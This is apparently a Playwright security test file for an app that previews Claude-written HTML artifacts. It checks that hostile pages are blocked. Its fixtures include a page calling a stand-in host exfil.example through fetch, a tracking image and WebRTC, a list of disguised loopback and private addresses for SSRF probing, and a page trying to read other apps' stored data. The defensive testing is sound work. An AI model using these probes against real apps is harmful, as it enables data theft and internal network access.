import { readFileSync } from 'node:fs';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { sse } from './fake-anthropic/responses.mjs';
import { claude, consent, consoleRegion, modelWrites, panel, preview } from './support/artifacts';
import { expect, messageRequests, send, test, toolResult } from './support/test';

// Artifacts as apps, attacked the way a hostile artifact or a hostile answer would: each test is the attack,
// and what the app does about it (docs/artifact-apps-security.md).

/** A page that asks Claude when `Ask` is clicked and shows the answer or the refusal. */
const ASK = `<!DOCTYPE html>
<button id="ask">Ask</button>
<p id="out">Idle</p>
<script>
  const out = document.getElementById('out');
  document.getElementById('ask').onclick = async () => {
    try {
      out.textContent = 'Claude: ' + (await window.claude.complete('Say hi'));
    } catch (e) {
      out.textContent = 'Refused: ' + e.message;
    }
  };
</script>`;

test("an artifact's Claude call carries none of the chat's connectors, web tools or system prompt", async ({
  app,
  anthropic,
}) => {
  test.setTimeout(90_000);
  // The person has a connector with a token and Web on for this chat.
  await app.getByRole('button', { name: 'Settings' }).click();
  const dialog = app.getByRole('dialog', { name: 'Settings' });
  await dialog.getByRole('tab', { name: 'Web, connectors & files' }).click();
  await dialog.getByRole('button', { name: 'Add connector' }).click();
  const connector = dialog.getByRole('group', { name: 'Connector 1' });
  await connector.getByRole('textbox', { name: 'Name' }).fill('example-mcp');
  await connector.getByRole('textbox', { name: 'Server URL' }).fill('https://mcp.example.com/mcp');
  await connector.getByLabel('Token (optional)').fill('mcp-secret-token');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog).toBeHidden();
  await app.getByRole('button', { name: 'Web' }).click();
  await expect(app.getByRole('button', { name: 'Web' })).toHaveAttribute('aria-pressed', 'true');

  await modelWrites(app, anthropic, 'ask.html', ASK);
  const chat = await messageRequests(anthropic);
  expect(chat[0]?.body).toHaveProperty('mcp_servers');
  const frame = preview(app, 'ask.html');
  await anthropic.reply(sse.text('Hello from Claude.'));
  await frame.getByRole('button', { name: 'Ask' }).click();
  await consent(app, 'ask.html').getByRole('button', { name: 'Allow' }).click();
  await expect(frame.locator('#out')).toHaveText('Claude: Hello from Claude.');

  const requests = await messageRequests(anthropic);
  expect(requests).toHaveLength(3);
  const call = requests[2];
  expect(call?.headers['anthropic-beta']).toBeUndefined();
  // The whole request: the person's model, the artifact's message, and nothing of the chat.
  expect(call?.body).toEqual({
    model: chat[0]?.body.model,
    max_tokens: 4096,
    messages: [
      { role: 'user', content: [{ type: 'text', text: 'Say hi', cache_control: { type: 'ephemeral' } }] },
    ],
    thinking: { type: 'disabled' },
    stream: true,
  });
});

/** Loopback and private addresses in the forms a name check alone would miss. */
const DISGUISED = [
  'https://[::7f00:1]/',
  'https://[64:ff9b::7f00:1]/',
  'https://[2002:7f00:1::]/',
  'https://[::ffff:7f00:1]/',
  'https://0x7f.0.0.2/',
  'https://2130706434/',
  'https://localtest.me/',
  'https://127.0.0.1.nip.io/',
  'https://10-0-0-1.sslip.io/',
];

const PROBE = `<!DOCTYPE html>
<pre id="out"></pre>
<script>
  const urls = ${JSON.stringify(DISGUISED)};
  Promise.allSettled(urls.map((u) => fetch(u))).then((results) => {
    document.getElementById('out').textContent = results
      .map((r, i) => urls[i] + ' ' + (r.status === 'rejected' ? r.reason.message : 'reached'))
      .join('\\n') + '\\ndone';
  });
  document.addEventListener('click', () => fetch('https://api.weather.example/v1').catch(() => {}));
</script>`;

test('loopback and private addresses in IPv6, numeric and wildcard-DNS forms are refused, never offered', async ({
  app,
  anthropic,
}) => {
  test.setTimeout(90_000);
  await modelWrites(app, anthropic, 'probe.html', PROBE);
  const out = preview(app, 'probe.html').locator('#out');
  await expect(out).toContainText('done');
  for (const url of DISGUISED)
    await expect(out).toContainText(
      new RegExp(
        `${url.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')} Failed to fetch .*is a local or private address; a preview can never reach it\\.`,
      ),
    );
  await expect(panel(app).getByRole('alertdialog', { name: /tried to reach/ })).toHaveCount(0);

  // A public name is offered, and the offer says what the name check cannot see.
  await preview(app, 'probe.html').locator('body').click();
  const offer = panel(app).getByRole('alertdialog', {
    name: 'probe.html tried to reach api.weather.example',
  });
  await expect(offer).toContainText('a public name can still point to an address on your own network');
  await expect(offer).toContainText("Chrome's Local Network Access");
});

/** A page that sends 14 Claude calls at once, one more on `Again`, and a 1.5 MB prompt on `Big`. */
const BURST = `<!DOCTYPE html>
<button id="burst">Burst</button>
<button id="again">Again</button>
<button id="big">Big</button>
<p id="out">Idle</p>
<script>
  const out = document.getElementById('out');
  const ask = (text) => fetch('/v1/messages', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'any', max_tokens: 1000, messages: [{ role: 'user', content: text }] }),
  }).then(async (r) => ({ ok: r.ok, data: await r.json() }));
  document.getElementById('burst').onclick = async () => {
    const all = await Promise.all(Array.from({ length: 14 }, () => ask('hi')));
    const refused = all.filter((r) => !r.ok);
    out.textContent = (14 - refused.length) + ' answered, ' + refused.length + ' refused: ' + (refused[0]?.data.error.message ?? '');
  };
  document.getElementById('again').onclick = async () => {
    const r = await ask('hi');
    out.textContent = r.ok ? 'answered' : 'Refused: ' + r.data.error.message;
  };
  document.getElementById('big').onclick = async () => {
    const r = await ask('x'.repeat(1500000));
    out.textContent = r.ok ? 'answered' : 'Refused: ' + r.data.error.message;
  };
</script>`;

test('the cap is a budget: concurrent calls cannot pass it together, it survives a reload, and a huge prompt is refused', async ({
  app,
  anthropic,
}) => {
  test.setTimeout(90_000);
  await app.getByRole('button', { name: 'Settings' }).click();
  const dialog = app.getByRole('dialog', { name: 'Settings' });
  await dialog.getByRole('tab', { name: 'Theme & limits' }).click();
  await dialog.getByRole('spinbutton', { name: /Spending cap/ }).fill('0.05');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog).toBeHidden();

  await modelWrites(app, anthropic, 'burst.html', BURST);
  const frame = preview(app, 'burst.html');
  // One answer that costs far more than the cap ($1.00 at the model's output price).
  await anthropic.reply(sse.text('Expensive.', { outputTokens: 40_000 }));
  await frame.getByRole('button', { name: 'Burst' }).click();
  await consent(app, 'burst.html').getByRole('button', { name: 'Allow' }).click();
  // Each call reserves its worst case (1,000 output tokens and its text at the model's price) before it goes:
  // one fits under $0.05, the other thirteen are refused before anything is sent.
  await expect(frame.locator('#out')).toHaveText(
    /^1 answered, 13 refused: burst\.html has spent \$0\.0\d+ of its \$0\.05 cap on Claude calls \(counting calls still running\), and this call could cost up to \$0\.0\d+ .*nothing was sent/,
  );
  expect(await messageRequests(anthropic)).toHaveLength(3);

  // What was spent is stored with the artifact: a reload does not give the budget back.
  await app.reload();
  const again = preview(app, 'burst.html');
  await again.getByRole('button', { name: 'Again' }).click();
  await consent(app, 'burst.html').getByRole('button', { name: 'Allow' }).click();
  await expect(again.locator('#out')).toHaveText(
    /^Refused: burst\.html has spent \$1\.\d\d on Claude calls, its cap of \$0\.05; nothing was sent\./,
  );
  await again.getByRole('button', { name: 'Big' }).click();
  await expect(again.locator('#out')).toHaveText(
    "Refused: The request's text is 1,500,000 bytes; an artifact's Claude call can send at most 100,000 bytes (MAX_PROMPT_BYTES). Nothing was sent.",
  );
  expect(await messageRequests(anthropic)).toHaveLength(3);
});

/** A page that downloads a 12 KB "invoice.pdf" as soon as it runs, with no click of its own. */
const DRIVE_BY = `<!DOCTYPE html>
<h1>Invoice</h1>
<script>
  const blob = new Blob(['%PDF-1.4 ' + 'x'.repeat(12 * 1024 - 9)], { type: 'application/pdf' });
  const a = document.createElement('a');
  a.href = URL.createObjectURL(blob);
  a.download = 'invoice.pdf';
  a.click();
</script>`;

test("a page's own download is offered, never saved, whatever the app page's activation; the panel's Download is one click", async ({
  app,
  anthropic,
}) => {
  test.setTimeout(90_000);
  const saved: string[] = [];
  app.on('download', (download) => saved.push(download.suggestedFilename()));
  await modelWrites(app, anthropic, 'invoice.html', DRIVE_BY);
  // Run again by the person's click on Preview: the page downloads while the app page has that activation.
  await panel(app).getByRole('button', { name: 'Code' }).click();
  await panel(app).getByRole('button', { name: 'Preview' }).click();
  await expect(preview(app, 'invoice.html').getByRole('heading', { name: 'Invoice' })).toBeVisible();
  await expect(panel(app).getByText(/invoice\.pdf \(12 KB\)/)).toBeVisible();
  expect(saved).toEqual([]);
  const offer = panel(app).getByRole('alertdialog', { name: 'Save invoice.pdf (12 KB)?' });
  await expect(offer).toBeVisible();

  const downloading = app.waitForEvent('download');
  await offer.getByRole('button', { name: 'Save' }).click();
  expect((await downloading).suggestedFilename()).toBe('invoice.pdf');
  await expect(offer).toBeHidden();

  // The person's own Download in the toolbar saves the file at once.
  const own = app.waitForEvent('download');
  await panel(app).getByRole('button', { name: 'Download', exact: true }).click();
  expect((await own).suggestedFilename()).toBe('invoice.html');
  expect(saved).toEqual(['invoice.pdf', 'invoice.html']);
});

const WEATHER = 'https://api.weather.example';

/** Version `n` of a page that asks Claude on `Ask` and fetches the weather on `Net`. */
const VERSIONED = (n: number) => `<!DOCTYPE html>
<h1>Version ${n}</h1>
<button id="ask">Ask</button>
<button id="net">Net</button>
<p id="out">Idle</p>
<script>
  const out = document.getElementById('out');
  document.getElementById('ask').onclick = () => window.claude.complete('hi').then(
    (t) => { out.textContent = 'Claude: ' + t; },
    (e) => { out.textContent = 'Refused: ' + e.message; },
  );
  document.getElementById('net').onclick = () => fetch('${WEATHER}/v1').then(
    async (r) => { out.textContent = 'Reached: ' + (await r.text()); },
    (e) => { out.textContent = 'Refused: ' + e.message; },
  );
</script>`;

/** A page that, as soon as it runs, stores, asks Claude and fetches the weather, and prints what each gave. */
const EAGER = `<!DOCTYPE html>
<script>
  window.storage.set('seen', 'yes').then(() => console.log('stored'), (e) => console.log('storage: ' + e.message));
  window.claude.complete('hi').then(() => console.log('asked'), (e) => console.log('claude: ' + e.message));
  fetch('${WEATHER}/v1').then(() => console.log('reached'), (e) => console.log('fetch: ' + e.message));
</script>`;

test('consent belongs to a version: a rewrite asks again unless always allowed, and a console check gets no powers', async ({
  app,
  anthropic,
  network,
}) => {
  test.setTimeout(120_000);
  network.allow(WEATHER);
  const reached: string[] = [];
  await app.route(`${WEATHER}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 200, body: 'sunny', headers: { 'access-control-allow-origin': '*' } });
  });
  const offer = panel(app).getByRole('alertdialog', { name: 'ask.html tried to reach api.weather.example' });

  await modelWrites(app, anthropic, 'ask.html', VERSIONED(1));
  let frame = preview(app, 'ask.html');
  await anthropic.reply(sse.text('One.'));
  await frame.getByRole('button', { name: 'Ask' }).click();
  await consent(app, 'ask.html').getByRole('button', { name: 'Allow', exact: true }).click();
  await expect(frame.locator('#out')).toHaveText('Claude: One.');
  await frame.getByRole('button', { name: 'Net' }).click();
  await offer.getByRole('button', { name: 'Allow connections to api.weather.example' }).click();
  await expect(frame.getByRole('heading', { name: 'Version 1' })).toBeVisible();
  await frame.getByRole('button', { name: 'Net' }).click();
  await expect(frame.locator('#out')).toHaveText('Reached: sunny');
  expect(reached).toHaveLength(1);

  // Claude rewrites the file: the new version is asked about again, for Claude and for the host.
  await modelWrites(app, anthropic, 'ask.html', VERSIONED(2), 'toolu_v2', 'rewrite');
  frame = preview(app, 'ask.html');
  await expect(frame.getByRole('heading', { name: 'Version 2' })).toBeVisible();
  const before = (await messageRequests(anthropic)).length;
  await frame.getByRole('button', { name: 'Ask' }).click();
  await expect(consent(app, 'ask.html')).toBeVisible();
  expect(await messageRequests(anthropic)).toHaveLength(before);
  await anthropic.reply(sse.text('Two.'));
  await consent(app, 'ask.html').getByRole('button', { name: 'Always for this file' }).click();
  await expect(frame.locator('#out')).toHaveText('Claude: Two.');
  await frame.getByRole('button', { name: 'Net' }).click();
  await expect(frame.locator('#out')).toContainText(
    'Refused: Failed to fetch https://api.weather.example/v1',
  );
  expect(reached).toHaveLength(1);
  await offer.getByRole('button', { name: 'Always for this file' }).click();
  await expect(frame.getByRole('heading', { name: 'Version 2' })).toBeVisible();

  // Always for this file: a third version asks nothing.
  await modelWrites(app, anthropic, 'ask.html', VERSIONED(3), 'toolu_v3', 'rewrite');
  frame = preview(app, 'ask.html');
  await expect(frame.getByRole('heading', { name: 'Version 3' })).toBeVisible();
  await anthropic.reply(sse.text('Three.'));
  await frame.getByRole('button', { name: 'Ask' }).click();
  await expect(frame.locator('#out')).toHaveText('Claude: Three.');
  await frame.getByRole('button', { name: 'Net' }).click();
  await expect(frame.locator('#out')).toHaveText('Reached: sunny');
  expect(reached).toHaveLength(2);

  // With the Code view shown, the console check of the next version runs out of sight: no storage, no Claude,
  // no network, though the file is allowed both.
  await panel(app).getByRole('button', { name: 'Code' }).click();
  const sent = (await messageRequests(anthropic)).length;
  await modelWrites(app, anthropic, 'ask.html', EAGER, 'toolu_eager', 'rewrite');
  const result = await toolResult(anthropic, 'toolu_eager');
  expect(result).toContain('storage: window.storage is off in a console check (the page run out of sight).');
  expect(result).toContain(
    'claude: Asking Claude is off in a console check (the page run out of sight); nothing was sent.',
  );
  expect(result).toContain(
    'fetch: Failed to fetch https://api.weather.example/v1: the network is off in a console check (the page run out of sight).',
  );
  expect(reached).toHaveLength(2);
  // The rewrite's two turns, and no Claude call of the check.
  expect(await messageRequests(anthropic)).toHaveLength(sent + 2);
});

/** A saved app that tries every way out. */
const THIEF = `<!DOCTYPE html>
<pre id="out">Running</pre>
<script>
  const lines = [];
  const say = (line) => { lines.push(line); document.getElementById('out').textContent = lines.join('\\n'); };
  (async () => {
    try { await fetch('https://exfil.example/?d=1'); say('fetch: sent'); } catch (e) { say('fetch: ' + e.name); }
    try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:exfil.example:3478' }] }); say('webrtc: made'); } catch (e) { say('webrtc: ' + e.message); }
    const img = new Image();
    img.onerror = () => say('image: refused');
    img.onload = () => say('image: loaded');
    img.src = 'https://exfil.example/pixel.png';
    try { const s = await window.storage.list(); say('own storage: ' + s.keys.join(',')); } catch (e) { say('own storage: ' + e.message); }
  })();
</script>`;

test('Download as app keeps the network sandbox: no fetch, no image, no WebRTC', async ({
  app,
  anthropic,
  browser,
}, testInfo) => {
  test.setTimeout(120_000);
  const save = async (filename: string, content: string, id: string, stores: boolean) => {
    await modelWrites(app, anthropic, filename, content, id);
    const downloading = app.waitForEvent('download');
    await panel(app).getByRole('button', { name: 'More file actions' }).click();
    await panel(app).getByRole('menuitem', { name: 'Download as app' }).click();
    if (stores) await app.getByRole('button', { name: 'Without data' }).click();
    const download = await downloading;
    const file = testInfo.outputPath(download.suggestedFilename());
    await download.saveAs(file);
    return pathToFileURL(file).href;
  };
  const thief = await save('thief.html', THIEF, 'toolu_thief', false);

  const standalone = await browser.newContext();
  const reached: string[] = [];
  await standalone.route(/^(https?|wss?):/, (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  try {
    const page = await standalone.newPage();
    await page.goto(thief);
    const out = page.frameLocator('iframe[title="thief.html"]').locator('#out');
    await expect(out).toContainText('own storage:');
    await expect(out).toContainText('image: refused');
    await expect(out).toContainText('fetch: TypeError');
    await expect(out).toContainText('webrtc: WebRTC is off');
    expect(reached).toEqual([]);
    expect(readFileSync(fileURLToPath(thief), 'utf8')).toContain('Content-Security-Policy');
  } finally {
    await standalone.close();
  }
});

/** A page that stores 13.5 MB in 4.5 MB values when it opens, and says how far it got. */
const HOARD = `<!DOCTYPE html>
<p id="out">Storing</p>
<script>
  (async () => {
    const out = document.getElementById('out');
    const chunk = 'x'.repeat(4500000);
    let stored = 0;
    for (let i = 0; i < 3; i++) {
      try {
        await window.storage.set('chunk' + i, chunk);
        stored++;
      } catch (e) {
        out.textContent = 'Refused after ' + stored + ': ' + e.message;
        return;
      }
    }
    out.textContent = 'Stored ' + stored;
  })();
</script>`;

test("one answer's three files cannot store 40 MB: the conversation's limit is named to the page and the person", async ({
  app,
  anthropic,
}) => {
  test.setTimeout(120_000);
  const files = ['hoard-a.html', 'hoard-b.html', 'hoard-c.html'];
  for (const [i, filename] of files.entries())
    await anthropic.reply(
      sse.toolUse({
        name: 'artifacts',
        id: `toolu_hoard${i}`,
        input: { command: 'create', filename, content: HOARD },
      }),
    );
  await anthropic.reply(sse.text('Three files are ready.'));
  await send(app, 'Write three pages that store data');
  await expect(claude(app).filter({ hasText: 'Three files are ready.' })).toBeVisible({ timeout: 60_000 });

  // Each file stores when it is shown (console checks store nothing): the first two fit, the third is refused.
  for (const filename of files.slice(0, 2)) {
    await panel(app).getByRole('tab', { name: filename }).click();
    await expect(preview(app, filename).getByText('Stored 3')).toBeVisible({ timeout: 30_000 });
  }
  await panel(app).getByRole('tab', { name: 'hoard-c.html' }).click();
  const refused = preview(app, 'hoard-c.html').getByText(/^Refused after 0: /);
  await expect(refused).toBeVisible({ timeout: 30_000 });
  await expect(refused).toContainText('the artifacts of one conversation can keep at most');
  await expect(refused).toContainText('(30 MB)');
  // The person sees the same sentence in the console, with where to clear an app's data.
  await expect(consoleRegion(app).getByText('1 error')).toBeVisible();
  await consoleRegion(app)
    .getByRole('button', { name: /Console/ })
    .click();
  const entry = consoleRegion(app).getByRole('list', { name: 'Console entries' });
  await expect(entry).toContainText('(30 MB)');
  await expect(entry).toContainText('Clear stored data');
});

/** A page that stores 2,000 small keys, 16 at a time, then lists them. */
const MANY_KEYS = `<!DOCTYPE html>
<p id="out">Storing</p>
<script>
  (async () => {
    const out = document.getElementById('out');
    for (let i = 0; i < 2000; i += 16) {
      const batch = [];
      for (let j = i; j < i + 16 && j < 2000; j++) batch.push(window.storage.set('k' + String(j).padStart(5, '0'), 'v' + j));
      await Promise.all(batch);
    }
    const { keys } = await window.storage.list('k');
    out.textContent = 'Listed ' + keys.length;
  })().catch((e) => { document.getElementById('out').textContent = 'Failed: ' + e.message; });
</script>`;

test('many small keys: writes do not slow with the number of keys, and the list comes back whole', async ({
  app,
  anthropic,
}) => {
  // Before totals were kept, each write walked every key: 1,728 keys took 91 s, so 2,000 did not finish here.
  test.setTimeout(120_000);
  await modelWrites(app, anthropic, 'keys.html', MANY_KEYS);
  await expect(preview(app, 'keys.html').getByText('Listed 2000')).toBeVisible({ timeout: 60_000 });
  await expect(consoleRegion(app).getByText('Stored data:')).toContainText('in 2000 keys');
});

/** A saved app that keeps a secret with `Keep`, and shows what it has. */
const VAULT = `<!DOCTYPE html>
<h1>Vault</h1>
<button id="keep">Keep</button>
<p id="out">Reading</p>
<script>
  const out = document.getElementById('out');
  const show = () => window.storage.get('secret').then((r) => { out.textContent = 'kept ' + r.value; }, () => { out.textContent = 'empty'; });
  document.getElementById('keep').onclick = () => window.storage.set('secret', 'hunter2').then(show);
  show();
</script>`;

/** A saved app that looks for other saved apps' data, through its own storage and around it. */
const SPY = `<!DOCTYPE html>
<h1>Spy</h1>
<pre id="out">Running</pre>
<script>
  (async () => {
    const lines = [];
    await window.storage.set('mine', 'spy');
    try {
      lines.push('localStorage: ' + Object.keys(localStorage).map((k) => k + '=' + localStorage.getItem(k)).join(','));
    } catch (e) {
      lines.push('localStorage: ' + e.name);
    }
    for (const shared of [false, true]) lines.push('storage: ' + (await window.storage.list('', shared)).keys.join(','));
    try { lines.push('parent: ' + Object.keys(parent.localStorage).join(',')); } catch (e) { lines.push('parent: ' + e.name); }
    document.getElementById('out').textContent = lines.join('\\n');
  })();
</script>`;

test("two saved apps opened from disk: one cannot read the other's data, and each keeps its own across reloads", async ({
  app,
  anthropic,
  browser,
}, testInfo) => {
  test.setTimeout(120_000);
  const save = async (filename: string, content: string, id: string, stores: boolean) => {
    await modelWrites(app, anthropic, filename, content, id);
    const downloading = app.waitForEvent('download');
    await panel(app).getByRole('button', { name: 'More file actions' }).click();
    await panel(app).getByRole('menuitem', { name: 'Download as app' }).click();
    if (stores) await app.getByRole('button', { name: 'Without data' }).click();
    const download = await downloading;
    const file = testInfo.outputPath(download.suggestedFilename());
    await download.saveAs(file);
    return pathToFileURL(file).href;
  };
  const vault = await save('vault.html', VAULT, 'toolu_vault', false);
  // The spy stores a value in its preview: the question whether the file takes it along is answered no.
  const spy = await save('spy.html', SPY, 'toolu_spy', true);

  // One browser profile for both files: every file opened from disk shares the file:// origin.
  const standalone = await browser.newContext();
  await standalone.route(/^(https?|wss?):/, (route) => route.abort());
  try {
    const page = await standalone.newPage();
    await page.goto(vault);
    const shown = page.frameLocator('iframe[title="vault.html"]');
    await expect(shown.getByRole('heading', { name: 'Vault' })).toBeVisible();
    await expect(shown.getByText('empty')).toBeVisible();
    await shown.getByRole('button', { name: 'Keep' }).click();
    await expect(shown.getByText('kept hunter2')).toBeVisible();
    await page.reload();
    await expect(page.frameLocator('iframe[title="vault.html"]').getByText('kept hunter2')).toBeVisible();

    await page.goto(spy);
    const out = page.frameLocator('iframe[title="spy.html"]').locator('#out');
    await expect(out).toContainText('parent:');
    await expect(out).toContainText('storage: mine');
    await expect(out).not.toContainText('hunter2');
    await expect(out).not.toContainText('secret');
    await expect(out).toContainText('localStorage: SecurityError');
  } finally {
    await standalone.close();
  }
});
